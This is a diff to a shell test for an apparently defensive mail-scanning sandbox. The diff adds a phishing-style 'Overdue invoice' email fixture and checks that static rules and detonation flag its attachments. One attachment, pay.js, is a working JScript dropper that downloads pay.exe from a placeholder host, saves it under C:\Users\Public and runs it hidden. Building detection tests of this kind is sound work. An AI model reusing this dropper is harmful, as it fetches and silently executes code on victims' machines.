@@ -4,7 +4,9 @@
 # inside airlock run --net none and finds them by SHA-256; mail scan loads the decoded
 # attachment), caught with T1027.006 and their payload recovered as a child. Static analysis
 # alone judges both clean: the pages are of detonate-pages.py's styles that it misses. A zip
-# holding a benign page (a CSV export through a Blob) stays clean.
+# holding a benign page (a CSV export through a Blob) stays clean. A message whose attachments
+# the static rules already flag (a smuggling page, a JScript dropper) is detonated too by mail
+# scan --detonate: the page's payload and the dropper's behaviour are the evidence.
 . "$AIRLOCK_SRC/tests/lib.sh"
 . "$AIRLOCK_SRC/tests/helpers/pages-lib.sh"
 PY=${PY:-python3}
@@ -31,6 +33,20 @@ m.set_content("Your statement is attached.\n")
 m.add_attachment(open(w + "/mal/rotated-array.html", "rb").read(), maintype="text",
                  subtype="html", filename="statement.html")
 open(w + "/in/statement.eml", "wb").write(bytes(m))
+m = email.message.EmailMessage()
+m["From"] = "billing@example.org"
+m["To"] = "user@example.org"
+m["Subject"] = "Overdue invoice"
+m.set_content("The invoice and the payment tool are attached.\n")
+m.add_attachment(open(w + "/mal/xor.html", "rb").read(), maintype="text",
+                 subtype="html", filename="overdue.html")
+m.add_attachment(b'''var h = new ActiveXObject("MSXML2.XMLHTTP");
+h.open("GET", "http://example.invalid/pay.exe", false); h.send();
+var s = new ActiveXObject("ADODB.Stream");
+s.Open(); s.Type = 1; s.Write(h.ResponseBody); s.SaveToFile("C:\\\\Users\\\\Public\\\\pay.exe", 2);
+new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\pay.exe", 0);
+''', maintype="application", subtype="octet-stream", filename="pay.js")
+open(w + "/in/overdue.eml", "wb").write(bytes(m))
 PYS
 chmod -R a+rX "$W"
 # The page folders go to $TMPDIR: this script's own, so that the other phase's do not count.
@@ -44,6 +60,10 @@ expect_eq "analyze --detonate: exit status 1" 1 "$?"
 "$AIRLOCK" mail scan --detonate --detonate-timeout 40 --json "$W/in/statement.eml" >"$W/mail.json" \
         2>"$W/mail.err"
 expect_eq "mail scan --detonate: exit status 1" 1 "$?"
+"$AIRLOCK" mail scan --json "$W/in/overdue.eml" >"$W/flagged-static.json" 2>"$W/flagged-static.err"
+"$AIRLOCK" mail scan --detonate --detonate-timeout 40 --json "$W/in/overdue.eml" >"$W/flagged.json" \
+        2>"$W/flagged.err"
+expect_eq "mail scan --detonate of flagged attachments: exit status 1" 1 "$?"
 
 "$PY" - "$W" <<'PYS' || fail "the report check" "python exited with status $?"
 import json, sys
@@ -95,6 +115,23 @@ check("a benign page inside a zip is loaded and stays clean",
       n and [(f["rule"], f.get("evidence")) for f in n["findings"]])
 top = [f for f in json.load(open(w + "/det.json"))["files"]
        if f["name"] in ("invoice.zip", "statement.eml")]
+# flagged statically, detonated all the same: the page's payload and the dropper's behaviour
+fs, fd = nodes(w + "/flagged-static.json"), nodes(w + "/flagged.json")
+n = node(fs, "overdue.html")
+check("static: the rules flag the attached page, no payload recovered",
+      n is not None and n["verdict"] != "clean" and
+      not any(c.get("sha256") == sha["xor.html"] for c in n.get("children", [])),
+      n and (n["verdict"], [c["name"] for c in n.get("children", [])]))
+n = node(fs, "pay.js")
+check("static: the rules flag the attached dropper", n is not None and n["verdict"] != "clean",
+      n and n["verdict"])
+caught(fd, "overdue.html", "xor.html",
+       "mail scan --detonate: a page the rules flag is loaded, its payload recovered and judged")
+n = node(fd, "pay.js")
+d = n and next((f for f in n["findings"] if f["rule"] == "wsh.dropper" and f["source"] == "detonation"), None)
+check("mail scan --detonate: a flagged JScript attachment runs in box-js (wsh.dropper, T1105)",
+      d is not None and "T1105" in d["attack"] and "pay.exe" in (d.get("evidence") or ""),
+      n and [(f["rule"], (f.get("evidence") or "")[:100]) for f in n["findings"]])
 check("the containers take the verdict of the page",
       len(top) == 2 and all(n["verdict"] == "malicious" for n in top),
       [(n["name"], n["verdict"]) for n in top])
